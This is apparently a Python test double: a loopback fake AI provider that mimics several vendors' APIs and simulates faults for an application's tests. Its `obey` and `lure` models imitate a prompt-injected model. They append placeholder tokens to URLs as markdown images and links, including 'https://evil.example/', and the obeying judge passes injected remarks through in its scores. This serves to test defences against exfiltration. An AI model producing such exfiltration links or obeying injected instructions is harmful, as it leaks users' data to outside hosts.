# SPDX-License-Identifier: EUPL-1.2
"""A provider of AI on loopback that speaks the protocols of real ones (OpenAI's, Azure's, Mistral's, Ollama's),
keeps every byte it was sent, and does what its model is called: `echo` repeats the last message, `obey` does
whatever the messages say, `wise` cites the first article, `late` does so
once the test lets it, `lure` adds a link, `linguist` translates paragraphs that are numbered, `slow`, `mute`, `cut`, `huge`, `nonsense`, `misshapen`, `half`, `drip`, `weir`, `brief`, `liar`, `often`, `key`, `down`, `redirect` are troubles."""
import http.server
import json
import re
import threading
import zlib

TERMS = {"entity": "Double SAS", "retention_days": 0, "training": False, "subprocessors": [],
         "contract": {"reference": "DPA-1", "from": "2026-01-01T00:00:00Z"}}


def grams(text, dimension=64):
    """Hashed groups of three letters, counted: a vector that says the same each time."""
    row, letters = [0.0] * dimension, " " + " ".join(re.findall(r"\w+", text.lower())) + " "
    for i in range(len(letters) - 2):
        row[zlib.crc32(letters[i:i + 3].encode()) % dimension] += 1.0
    return row


def judgement(remarks):
    """What `quality` is asked for."""
    scores = dict.fromkeys(("clear", "complete", "correct", "polite", "understood"), 4)
    return json.dumps({"scores": scores, "remarks": remarks})


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *words):
        pass

    def do_POST(self):
        raw = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        asked = json.loads(raw)
        double = self.server.double
        with double.lock:
            double.bodies.append(raw)
            double.headers.append(dict(self.headers))
            if double.keeps:
                double.asked.append((double.dialect, self.path, dict(self.headers), asked))
            turn = len(double.bodies)
        model = asked.get("model") or self.path.split("/deployments/")[-1].split("/")[0]
        self.ollama = "/api/" in self.path
        if "input" in asked:
            return getattr(self, "embed_" + re.sub(r"\W", "_", model), self.embed_grams)(asked, turn)
        getattr(self, "do_" + re.sub(r"\W", "_", model), self.do_echo)(asked, turn)

    # ---- what it says ----

    def do_echo(self, asked, turn):
        self.say(asked, "Vous dites : " + asked["messages"][-1]["content"])

    def do_obey(self, asked, turn):
        everything = "\n".join(m["content"] for m in asked["messages"])
        tokens = "".join(re.findall("\u27e6[A-Z_]+_[0-9.]+\u27e7", everything))
        links = "".join(f"\n![x]({u}?d={tokens}) [y]({u}?d={tokens}) {u}?d={tokens} <img src={u}?d={tokens}>"
                        for u in re.findall(r"https?://[^\s)>\"']+", everything))
        said = everything + links + "\n\u27e6IBAN_9\u27e7 https://evil.example/" + tokens
        if asked.get("response_format", {}).get("type") == "json_object":  # a judge that obeys
            said = judgement([line[:400] for line in said.splitlines() if line][-5:])
        self.say(asked, said)

    def do_scribe(self, asked, turn):
        """Does as it is asked in the end: judges, or writes."""
        if "JSON" in asked["messages"][-1]["content"][-100:]:
            self.say(asked, judgement(["Le délai manque."]))
        else:
            self.say(asked, "# Renvoyer un article\n\nSous trente jours, avec le bon de retour.")

    def do_brief(self, asked, turn):
        """Has no room for all that it would say."""
        self.say(asked, "Das Paket kam", end="length")

    def do_linguist(self, asked, turn):
        """Each paragraph, with its tokens; what the test wants done meanwhile, and the trouble that it wants at this turn, comes first."""
        double = self.server.double
        double.meanwhile(turn)
        trouble = double.troubles.get(turn)
        if trouble not in (None, "filtered"):
            return getattr(self, "do_" + trouble)(asked, turn)
        rows = re.findall(r"Paragraphe (\d+)(.*)", asked["messages"][-1]["content"])
        said = "\n\n".join(f"Paragraph {n}: the parcel came late, " + " and ".join(re.findall("\u27e6[A-Z_]+_[0-9.]+\u27e7", rest)) + " said."
                           for n, rest in rows)
        self.say(asked, said, end="content_filter" if trouble else "stop")

    def do_linguist_that_tires(self, asked, turn):
        """Only what begins a message."""
        (self.do_linguist if "Paragraphe 1 " in asked["messages"][-1]["content"] else self.do_key)(asked, turn)

    def do_wise(self, asked, turn, more=""):
        self.say(asked, "Rangez le trombone dans son étui, démontez la coulisse, et renvoyez le tout [1]." + more)

    do_wise_2 = do_wise  # another model, that says the same

    def do_lure(self, asked, turn):
        self.do_wise(asked, turn, " Voir https://evil.example/retour")

    def do_late(self, asked, turn):
        self.server.double.go.wait(60)
        self.do_wise(asked, turn)

    def do_liar(self, asked, turn):
        self.say(asked, "Oui.", usage={"prompt_tokens": 99999999, "completion_tokens": 0})

    def do_slow(self, asked, turn):
        self.head(200, "text/event-stream")
        self.server.double.leaving.wait(20)

    def do_mute(self, asked, turn):
        """Takes the question and says nothing at all."""
        self.server.double.leaving.wait(20)

    def do_drip(self, asked, turn):
        """A word each tenth of a second, as long as anybody listens."""
        self.head(200, "text/event-stream")
        try:
            while not self.server.double.leaving.wait(0.1):
                self.server.double.began.set()
                self.event({"choices": [{"index": 0, "delta": {"content": "goutte "}}]})
        except OSError:
            self.server.double.hung_up.set()

    def do_weir(self, asked, turn):
        """A word at once; the rest, which repeats the last message, once the test lets it."""
        self.head(200, "text/event-stream")
        self.event({"choices": [{"index": 0, "delta": {"content": "goutte "}}]})
        self.server.double.leaving.wait(60)
        self.say_in_pieces(asked, asked["messages"][-1]["content"], {"prompt_tokens": 50, "completion_tokens": 20}, "stop")

    def do_cut(self, asked, turn):
        self.head(200, "text/event-stream")
        self.event({"choices": [{"index": 0, "delta": {"content": "Bonjour, voici "}}]})

    def do_huge(self, asked, turn):
        self.head(200, "text/event-stream")
        try:
            self.wfile.write(b'data: {"choices":[{"index":0,"delta":{"content":"')
            for _ in range(1600):
                self.wfile.write(b"x" * 65536)
        except OSError:
            pass

    def do_nonsense(self, asked, turn):
        self.whole(200, b"<html>It works!</html>", "text/html")

    def do_misshapen(self, asked, turn):
        self.whole(200, b'{"choices": {"message": ["Bonjour"]}, "usage": "many"}')

    def do_half(self, asked, turn):
        self.whole(200, b'{"choices": [{"index": 0, "message": {"role": "assistant", "content": "Bonjo')

    def do_often(self, asked, turn):
        if turn % 2:
            self.whole(429, b"{}", "application/json", {"Retry-After": "1"})
        else:
            self.do_echo(asked, turn)

    def do_down(self, asked, turn):
        self.whole(503, b"", "text/plain")

    def do_key(self, asked, turn):
        self.whole(401, json.dumps({"error": {"code": "invalid_api_key", "message": "no"}}).encode())

    def do_redirect(self, asked, turn):
        self.whole(307, b"", "text/plain", {"Location": "http://localhost:1/elsewhere"})

    # ---- vectors ----

    def embed_grams(self, asked, turn):
        """Texts that share letters lie near each other: says nothing about any real model."""
        self.vectors(asked, [grams(text) for text in asked["input"]])

    def embed_other(self, asked, turn):
        """Of another dimension."""
        self.vectors(asked, [grams(text, 48) for text in asked["input"]])

    def embed_backwards(self, asked, turn):
        """Rows in any order, each with its number: allowed."""
        self.vectors(asked, [grams(text) for text in asked["input"]], order=-1)

    def embed_short(self, asked, turn):
        self.vectors(asked, [grams(text) for text in asked["input"]][1:])

    def embed_nan(self, asked, turn):
        self.whole(200, b'{"data":[{"index":0,"embedding":[NaN,1]}]}')

    def embed_down(self, asked, turn):
        self.whole(503, b"", "text/plain")

    def embed_slow(self, asked, turn):
        self.server.double.leaving.wait(20)

    def embed_fickle(self, asked, turn):
        """Does as the test says."""
        getattr(self, "embed_" + self.server.double.mood)(asked, turn)

    def vectors(self, asked, rows, order=1):
        if self.ollama:
            return self.whole(200, self.kept(asked, "embedding", {"model": asked["model"], "embeddings": rows, "prompt_eval_count": 9}))
        data = [{"object": "embedding", "index": i, "embedding": row} for i, row in enumerate(rows)][::order]
        usage = {"prompt_tokens": 9, "total_tokens": 9}
        if self.server.double.dialect == "mistral":
            usage["completion_tokens"] = 0
        more = {"id": "embd-1"} if self.server.double.dialect == "mistral" else {}
        self.whole(200, self.kept(asked, "embedding", {"object": "list", "data": data, "model": "double-e", "usage": usage} | more))

    # ---- how ----

    def kept(self, asked, what, value):
        """Its bytes; and it is there for a test to hold against the document of whoever's API this is."""
        double = self.server.double
        if double.keeps:
            with double.lock:
                double.said.append((double.dialect, self.path, what, value))
        return json.dumps(value).encode()

    def say(self, asked, text, usage=None, end="stop"):
        counts = {"prompt_tokens": 50, "completion_tokens": 20}
        usage = usage or counts | {"total_tokens": sum(counts.values())}
        if self.ollama:
            self.say_ollama(asked, text, end)
        elif asked.get("stream"):
            self.head(200, "text/event-stream")
            self.say_in_pieces(asked, text, usage, end)
        else:
            plain = {"index": 0, "finish_reason": end, "message": {"role": "assistant", "content": text}}
            if self.server.double.dialect != "mistral":
                plain["logprobs"], plain["message"]["refusal"] = None, None
            self.whole(200, self.kept(asked, "answer", self.completion("chat.completion", [plain], usage=usage)))

    @staticmethod
    def completion(kind, choices, **more):
        return {"id": "chatcmpl-1", "object": kind, "created": 1767225600, "model": "double-1", "choices": choices} | more

    def say_in_pieces(self, asked, text, usage, end):
        mistral = self.server.double.dialect == "mistral"

        def piece(choices, **more):
            self.wfile.write(b"data: " + self.kept(asked, "piece", self.completion("chat.completion.chunk", choices, **more)) + b"\n\n")

        for i in range(0, len(text), 3):
            piece([{"index": 0, "delta": {"content": text[i:i + 3]}, "finish_reason": None}])
        piece([{"index": 0, "delta": {"content": ""} if mistral else {}, "finish_reason": end}], **({"usage": usage} if mistral else {}))
        if (asked.get("stream_options") or {}).get("include_usage"):
            piece([], usage=usage)
        self.wfile.write(b"data: [DONE]\n\n")

    def say_ollama(self, asked, text, end):
        self.head(200, "application/x-ndjson")
        made = {"model": asked["model"], "created_at": "2026-01-01T00:00:00Z"}
        done = {"done": True, "done_reason": end, "prompt_eval_count": 50, "eval_count": 20}
        if not asked.get("stream", True):
            done["message"] = {"role": "assistant", "content": text}
            self.wfile.write(self.kept(asked, "answer", made | done))
            return
        self.wfile.write(self.kept(asked, "piece", made | {"message": {"role": "assistant", "content": text}, "done": False}) + b"\n")
        self.wfile.write(self.kept(asked, "last", made | done | {"message": {"role": "assistant", "content": ""}}) + b"\n")

    def head(self, status, kind):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True

    def event(self, value):
        self.wfile.write(b"data: " + json.dumps(value).encode() + b"\n\n")

    def whole(self, status, body, kind="application/json", more=None):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (more or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


class Double:
    def __init__(self):
        self.mood, self.dialect = "grams", "compatible"
        self.troubles, self.meanwhile = {}, lambda turn: None  # of `linguist`: by turn
        # Once a test wants them: (dialect, path, headers, body), (dialect, path, which part, what was answered)
        self.keeps, self.asked, self.said = False, [], []
        self.bodies, self.headers, self.lock, self.leaving = [], [], threading.Lock(), threading.Event()
        self.began, self.hung_up, self.go = threading.Event(), threading.Event(), threading.Event()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.server.double = self
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def sent(self):
        """All that ever came, as one text."""
        return b"\n".join(self.bodies).decode()

    def stop(self):
        self.leaving.set()
        self.server.shutdown()

    def approve(self, desk, model="echo", tasks=("summary", "draft"), org=0, tasks_of=(), **more):
        """Its record, approved by two people, AI on for these tasks; the provider's path."""
        admin, controller = desk.login("admin", org), desk.login("controller", org)
        self.dialect = more.get("kind", "compatible")
        made = admin.post("/providers", {"name": "Double", "owner": "A. Prova", "kind": "compatible", "url": self.url, "model": model,
                                         "region": "FR", "key": "sk-double-0123456789", "terms": TERMS, "tasks": list(tasks_of), **more})
        assert made.status == 201, made.body
        path = f"/providers/{made.json['id']}"
        admin.post(path + "/approvals", {"as": "it"})
        last = controller.post(path + "/approvals", {"as": "legal"})
        assert last.json["usable"], last.body
        on = controller.patch("/organisation", {"ai": {"enabled": True, "tasks": list(tasks)}})
        assert on.status == 200, on.body
        return path

    @staticmethod
    def token(desk, tasks=("draft",), org=0):
        made = desk.login("admin", org).post("/tokens", {"name": "outil", "tasks": list(tasks)})
        assert made.status == 201, made.body
        return made.json["token"]
